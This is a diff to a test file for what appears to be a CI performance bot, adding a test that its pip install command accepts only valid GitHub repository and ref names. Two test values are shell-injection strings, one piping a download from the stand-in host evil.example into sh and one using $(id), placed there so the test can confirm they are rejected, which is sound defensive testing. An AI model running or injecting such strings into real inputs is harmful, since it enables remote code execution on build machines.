@@ -120,6 +120,23 @@ def test_install_command():
 
 
 @pytest.mark.parametrize(
+    ("extra", "want"),
+    [
+        # a composite action passes its own repository and ref on
+        ({"PERFBOT_ACTION_REPOSITORY": "org/perfbot", "PERFBOT_ACTION_REF": "v1.4.0"},
+         'pip install "perfbot @ git+https://github.com/org/perfbot@v1.4.0"'),
+        # shown to be copied into a shell: nothing outside GitHub's character sets
+        ({"GITHUB_ACTION_REPOSITORY": 'org/perfbot"; curl evil.example | sh; "'}, None),
+        ({"GITHUB_ACTION_REPOSITORY": "org/perfbot", "GITHUB_ACTION_REF": "v1 $(id)"},
+         'pip install "perfbot @ git+https://github.com/org/perfbot"'),
+    ],
+)  # fmt: skip
+def test_install_command_takes_only_names_that_are_names(extra, want):
+    env = CIEnv.from_environ(runner_env("pull_request_opened", **extra))
+    assert env.install_command() == want
+
+
+@pytest.mark.parametrize(
     ("content", "message"),
     [(None, "cannot read the event file"), ("{", "is not JSON"), ("[]", "JSON object")],
 )
